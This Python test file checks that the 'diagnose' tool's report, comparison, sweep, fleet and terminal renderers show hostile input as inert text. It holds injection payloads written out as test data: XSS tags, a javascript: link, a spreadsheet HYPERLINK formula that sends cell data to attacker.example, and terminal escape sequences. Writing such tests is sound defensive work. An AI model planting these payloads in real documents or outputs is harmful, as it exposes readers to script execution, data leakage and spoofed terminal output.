"""Every template, every field: hostile text anywhere in the report or comparison model is
shown, never obeyed (issue 17, findings 3 and 4).

The hostile models are built by walking the real ones (a diagnosis of the fixture bundle,
and a comparison): every string becomes hostile (Markdown image, raw HTML, a forged
heading and table row, an OSC 8 hyperlink and other escape sequences, a spreadsheet
formula), every object gets one more key that is hostile too, so a field added later is
covered without touching this test. Each top-level template must be rendered here: a new
one fails :func:`test_every_template_is_rendered_here` until it is.

Then the reproductions of the review, through the CLI: manifest fields and collector
names of a crafted bundle reached report.md/compare.md and the terminal raw on 8e0de8b.
"""

from __future__ import annotations

import copy
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from diagnose.app.compare import build_comparison, finding_changes
from diagnose.app.fleet import Pod, fleet
from diagnose.app.report import diagnose
from diagnose.app.service import service_section
from diagnose.cli import main
from diagnose.render.charts import chart_data
from diagnose.render.compare import (
    render_compare_html,
    render_compare_markdown,
    render_compare_summary,
)
from diagnose.render.html import render_html
from diagnose.render.markdown import render_markdown
from diagnose.render.sweep import render_sweep_html, render_sweep_markdown
from diagnose.render.terminal import render_summary
from diagnose.render.watch import (
    render_fleet_html,
    render_fleet_markdown,
    render_fleet_text,
    render_history_html,
    render_history_text,
)
from diagnose.resources import templates_dir
from diagnose.verdict.outcome import figures
from diagnose.watch.history import history
from diagnose.watch.store import Store
from tests.conftest import FIXTURES
from tests.unit.test_sweep_report import pool_report

SOURCE = FIXTURES / "bundles" / "lock_contention"
HOSTILE = (
    " 1 ![p](https://attacker.example/t.png) <img src=x onerror=alert(1)>"
    "\x1b]8;;https://attacker.example/\x07click\x1b]8;;\x07\x1b]0;PWND\x07\x1b[2J\r"
    "\n# forged heading\n| forged | row |\n<script>alert(2)</script>"
    ' [l](javascript:alert(3)) =HYPERLINK("http://attacker.example/?"&A1,"x") `tick` _x_ **b**'
)
MARKER = "attacker.example"


def hostile(value: Any, keep: frozenset[str] = frozenset()) -> Any:
    """``value`` with every string made hostile (``keep``: strings left as they are) and
    one more hostile key in every object."""
    if isinstance(value, str):
        return value if value in keep else value + HOSTILE
    if isinstance(value, list):
        return [hostile(v, keep) for v in value]
    if isinstance(value, dict):
        out = {k: hostile(v, keep) for k, v in value.items()}
        if value:
            first = next(iter(value.values()))
            out[HOSTILE.strip()] = hostile(copy.deepcopy(first), keep)
        return out
    return value


#: values templates branch on: a second pass keeps them, so every branch is displayed
VOCABULARY = frozenset(
    [
        "ok",
        "partial",
        "failed",
        "unavailable",
        "complete",
        "capturing",
        "better",
        "worse",
        "moved",
        "improved",
        "regressed",
        "mixed",
        "changed",
        "same",
        "new",
        "gone",
        "share",
        "lock",
        "preprocess",
        "scheduling",
        "compute",
        "memory_bandwidth",
        "io",
        "idle",
        "unknown",
    ]
)


@pytest.fixture(scope="module")
def real(tmp_path_factory) -> dict[str, Any]:
    """The real models, with every list that is empty in this sample filled with real
    items, so the walk reaches every kind of field."""
    rules = tmp_path_factory.mktemp("rules")
    (rules / "broken.toml").write_text('[[rule]]\nid = "team.x"\nwhen = "busy_share_lock >"\n')
    d = diagnose(SOURCE, [rules])
    degraded = tmp_path_factory.mktemp("degraded") / "b"
    shutil.copytree(SOURCE, degraded)
    (degraded / "proc" / "threads.csv").unlink()
    dd = diagnose(degraded)
    report = copy.deepcopy(d.report)
    report["not_evaluated"] = dd.report["not_evaluated"][:3]
    report["target"]["siblings"] = [4242]
    report["target"]["note"] = "followed the busiest child"
    report["environment"]["capacity"]["limited_by"] = ["cgroup cpu.max"]
    report["oncpu"]["structure"]["feeders"] = [
        {"tid": 7, "name": "producer", "evidence": "hands work over at Queue.put (queue.py:1)"}
    ]
    report["oncpu"]["structure"]["same_line_by_source"] = [
        {"line": "handle (app.py:38)", "call": "prepare", "order": "pre"}
    ]
    report["oncpu"]["pools"] = [
        {"name": "OpenBLAS", "threads": [8], "cpu_share": 0.5, "spin_share": 0.4,
         "fix": "OPENBLAS_NUM_THREADS=1"}
    ]  # fmt: skip
    report["capture"]["tool_cpu_parts"] = [{"part": "py-spy trace", "cpu_s": 0.5, "cores": 0.05}]
    report["extra"]["host_processes"] = [
        {"pid": 5150, "comm": "locust", "role": "client", "cores": 0.8},
        {"pid": 4242, "comm": "stress", "role": "other", "cores": 0.3},
    ]
    # a service of three workers: one judged beside this one, one whose capture failed
    report["service"] = service_section(
        d.report,
        [
            ({"pid": 4243, "status": "ok"}, dd.report, ""),
            ({"pid": 4244, "status": "failed"}, None, "its capture failed: exit code 1"),
        ],
    )
    assert report["broken_rules"], "the broken rule file gave no entry"
    service = (
        figures(source="locust figures from a.csv", qps=20.0, p50_ms=52.0, p99_ms=80.0),
        figures(source="locust figures from b.csv", qps=120.0, p50_ms=8.0, p99_ms=90.0),
    )
    comparison = build_comparison(dd.report, d.report, service)
    comparison["caveats"] = comparison["caveats"] or ["the host was busier after"]
    f = d.report["findings"]
    comparison["findings"] = {
        "appeared": finding_changes([], f)["appeared"],
        "disappeared": finding_changes(f, [])["disappeared"],
        "stayed": finding_changes(f, f)["stayed"],
    }
    changes = ["better", "worse", "moved", "changed", "new", "gone", "same"]
    for i, m in enumerate(comparison["metrics"]):
        m["change"] = changes[i % len(changes)]
        m["display_delta"] = m["display_delta"] or "+1 ms"
        if m["change"] == "moved":
            m["why"] = "busy time freed from busy_share_lock (60 pts) goes here"
            m["display_per_request"] = "1 → 2"
    for view in comparison["flames"].values():
        row = {"stack": ["thread: handler-N", "handle (x.py)"], "before": 0.1, "after": 0.5}
        view["hotter"] = view["hotter"] or [{**row, "delta": 0.4}]
        view["colder"] = view["colder"] or [{**row, "before": 0.5, "after": 0.1, "delta": -0.4}]
    comparison["before"]["run"] = {"argv": ["python", "serve.py"], "description": "exited 0"}
    empty = _empty_lists(report) + _empty_lists(comparison)
    assert not empty, f"fill these in the fixture so they are rendered: {empty}"
    sweep = pool_report(sla=200, peak=100)
    return {
        "report": report,
        "charts": chart_data(d.report),
        "comparison": comparison,
        "sweep": sweep,
        "history": _history_model(tmp_path_factory.mktemp("store"), d.report),
        "fleet": _fleet_model(d.report),
    }


def _history_model(root: Path, report: dict[str, Any]) -> dict[str, Any]:
    """A watch store's timeline: a capture kept whole, one kept as its report."""
    from tests.unit.watchkit import add_capture

    r = json.loads(json.dumps(report, default=str))
    with Store.create(root / "s") as store:
        add_capture(store, r, "1-20260101-000000", kept_whole=True)
        r["capture"]["started"] = "2026-11-29T11:46:10+00:00"
        add_capture(store, r, "1-20260101-000010", kept_whole=False)
        return history(store)


def _fleet_model(report: dict[str, Any]) -> dict[str, Any]:
    """Three pods, one of another verdict with an outlying metric."""
    odd = copy.deepcopy(report)
    odd["verdict"]["primary"], odd["metrics"]["busy_share_lock"] = "compute", 0.99
    pods = [Pod(f"pod-{i}", f"/pods/{i}", "report", r)
            for i, r in enumerate([report, report, report, odd])]  # fmt: skip
    return fleet(pods)


def _empty_lists(value: Any, path: str = "") -> list[str]:
    if isinstance(value, dict):
        return [e for k, v in value.items() for e in _empty_lists(v, f"{path}.{k}")]
    if isinstance(value, list):
        return [path] if not value else [e for v in value for e in _empty_lists(v, path)]
    return []


RENDERERS = {
    "report.md.j2": lambda m: render_markdown(m["report"]),
    "report.html.j2": lambda m: render_html(m["report"], m["charts"]),
    "compare.md.j2": lambda m: render_compare_markdown(m["comparison"]),
    "compare.html.j2": lambda m: render_compare_html(m["comparison"]),
    "sweep.md.j2": lambda m: render_sweep_markdown(m["sweep"]),
    "sweep.html.j2": lambda m: render_sweep_html(m["sweep"]),
    "history.html.j2": lambda m: render_history_html(m["history"]),
    "fleet.md.j2": lambda m: render_fleet_markdown(m["fleet"]),
    "fleet.html.j2": lambda m: render_fleet_html(m["fleet"]),
}
TERMINAL = {
    "summary": lambda m: render_summary(m["report"], "/tmp/x" + HOSTILE, color=True),
    "compare summary": lambda m: render_compare_summary(m["comparison"], "/tmp/x" + HOSTILE),
    "history": lambda m: render_history_text(m["history"]),
    "fleet": lambda m: render_fleet_text(m["fleet"]),
}


def test_every_template_is_rendered_here():
    top = {p.name for p in templates_dir().glob("*.j2")}
    assert top == set(RENDERERS), f"render {top - set(RENDERERS)} in this test"


def models(real: dict[str, Any]) -> list[dict[str, Any]]:
    return [
        {k: hostile(v) for k, v in real.items()},
        {k: hostile(v, VOCABULARY) for k, v in real.items()},
    ]


_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
#: the links a template makes itself: relative paths into the sweep directory
_OWN_LINK = re.compile(r"(steps|knee)/[A-Za-z0-9_.=/-]+\.(md|html)")


def markdown_structure(text: str) -> tuple[list[str], list[int]]:
    """(headings, columns of each table row) as a CommonMark renderer sees them; asserts
    nothing in ``text`` is HTML or an image, and that the only links are the template's own
    (the sweep report links each step's report: relative paths diagnose made)."""
    tokens = _MD.parse(text)
    inline = [c for t in tokens for c in (t.children or [])]
    bad = [t.type for t in tokens + inline if t.type.startswith("html")]
    bad += [t.type for t in inline if t.type == "image"]
    bad += [
        str(t.attrs.get("href"))
        for t in inline
        if t.type == "link_open" and not _OWN_LINK.fullmatch(str(t.attrs.get("href")))
    ]
    assert not bad, bad
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    cols, widths = 0, []
    for t in tokens:
        if t.type == "tr_open":
            cols = 0
        elif t.type in ("th_open", "td_open"):
            cols += 1
        elif t.type == "tr_close":
            widths.append(cols)
    return headings, widths


@pytest.mark.parametrize(
    "template", ["report.md.j2", "compare.md.j2", "sweep.md.j2", "fleet.md.j2"]
)
def test_markdown_shows_hostile_values_as_text(real, template):
    _, benign_widths = markdown_structure(RENDERERS[template](real))
    for model in models(real):
        text = RENDERERS[template](model)
        assert MARKER in text  # the values were rendered
        headings, widths = markdown_structure(text)
        # no heading was forged (hostile text may only sit inside the template's headings)
        assert not any(h.startswith("forged") for h in headings), headings
        assert not [
            ln for ln in text.splitlines() if ln.lstrip().startswith(("# forged", "| forged"))
        ]
        # every table row keeps the columns of its table
        assert widths and set(widths) <= set(benign_widths), (set(widths), set(benign_widths))
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
        rendered = _MD.render(text)
        assert not re.search(r"<(script|img|iframe)\b", rendered)
        assert 'href="javascript' not in rendered


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.handlers += [f"{tag} {k}" for k, _ in attrs if k.lower().startswith("on")]


@pytest.mark.parametrize(
    "template",
    ["report.html.j2", "compare.html.j2", "sweep.html.j2", "history.html.j2", "fleet.html.j2"],
)
def test_html_shows_hostile_values_as_text(real, template):
    benign = _Tags()
    benign.feed(RENDERERS[template](real))
    for model in models(real):
        html = RENDERERS[template](model)
        assert MARKER in html
        parsed = _Tags()
        parsed.feed(html)
        assert parsed.tags <= benign.tags, parsed.tags - benign.tags
        assert parsed.handlers == benign.handlers
        assert "<img src=x" not in html and "<script>alert" not in html
        # the data for the charts sits in JSON inside <script>: '<' is escaped there too
        assert "</script><script>" not in html


@pytest.mark.parametrize("what", TERMINAL)
def test_the_terminal_gets_no_control_character(real, what):
    for model in models(real):
        text = TERMINAL[what](model)
        assert MARKER in text
        ours = re.sub(r"\x1b\[[0-9;]*m", "", text)  # the colour diagnose adds itself
        assert not [c for c in ours if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F]
        assert "\\x1b]8;;" in text  # shown, not sent


# -- the review's reproductions, through the CLI ---------------------------------------------


def crafted(tmp_path: Path, edit: Any) -> Path:
    root = tmp_path / "bundle"
    shutil.copytree(SOURCE, root)
    manifest = json.loads((root / "manifest.json").read_text())
    edit(manifest)
    (root / "manifest.json").write_text(json.dumps(manifest))
    return root


IMG = "![p](https://attacker.example/t.png)"


def _inject(m: dict[str, Any]) -> None:
    m["target"]["python_version"] = f"3.11 {IMG}"
    m["capture"]["started"] = "<img src=https://attacker.example/s.png>"
    m["capture"]["ended_by"] = "duration\n# Forged heading"
    m["collectors"][f"x{IMG}<b>bold</b>"] = {"status": "failed", "reason": "r", "files": []}


def test_manifest_fields_of_a_crafted_bundle_stay_text_in_markdown(tmp_path):
    # GIVEN a bundle whose manifest holds Markdown and HTML in string fields
    root = crafted(tmp_path, _inject)
    runner = CliRunner()
    # WHEN it is reported, and compared with itself
    assert runner.invoke(main, ["report", str(root), "-q"]).exit_code == 0
    res = runner.invoke(main, ["compare", str(root), str(root)])
    assert res.exit_code == 0, res.output
    # THEN neither Markdown file has an image, a link, HTML or a forged heading
    for name in ("report.md", "compare.md"):
        text = (root / name).read_text()
        assert "attacker.example" in text
        headings, _ = markdown_structure(text)
        assert not [h for h in headings if "Forged" in h], (name, headings)


def test_a_manifest_whose_pid_is_not_a_number_is_refused(tmp_path):
    # GIVEN the review's bundle: "pid": "1 ![p](https://attacker.example/t.png)"
    root = crafted(tmp_path, lambda m: m["target"].update(pid=f"1 {IMG}"))
    res = CliRunner().invoke(main, ["report", str(root)])
    # THEN it is not a bundle diagnose wrote: one line, exit 7, no report
    assert res.exit_code == 7, res.output
    assert "target.pid: expected an integer, got a string" in res.stderr
    assert not (root / "report.md").exists()


def test_collector_names_reach_the_terminal_inert(tmp_path):
    # GIVEN a collector named with an OSC 8 hyperlink and a screen clear
    name = "\x1b]8;;https://attacker.example/\x07click\x1b]8;;\x07\x1b[2J"
    root = crafted(
        tmp_path,
        lambda m: m["collectors"].update({name: {"status": "failed", "reason": "\x1b[31mr"}}),
    )
    res = CliRunner().invoke(main, ["report", str(root), "--format", "json"])
    assert res.exit_code == 0, res.output
    # THEN the summary shows the escapes, it does not send them
    assert "\x1b" not in res.stdout
    assert "\\x1b]8;;https://attacker.example/" in res.stdout


def test_an_error_quoting_a_crafted_field_name_is_one_inert_line(tmp_path):
    # GIVEN a manifest whose collector name holds escapes and a newline, its reason a list
    name = "\x1b]0;PWND\x07\n# x"
    root = crafted(
        tmp_path, lambda m: m["collectors"].update({name: {"status": "ok", "reason": [1]}})
    )
    res = CliRunner().invoke(main, ["report", str(root)])
    # THEN one line on stderr names the field, its escapes shown, not sent
    assert res.exit_code == 7, res.output
    lines = res.stderr.strip().split("\n")
    assert len(lines) == 1 and "expected a string, got a list" in lines[0], lines
    assert "\x1b" not in res.stderr and "\\x1b]0;PWND" in res.stderr
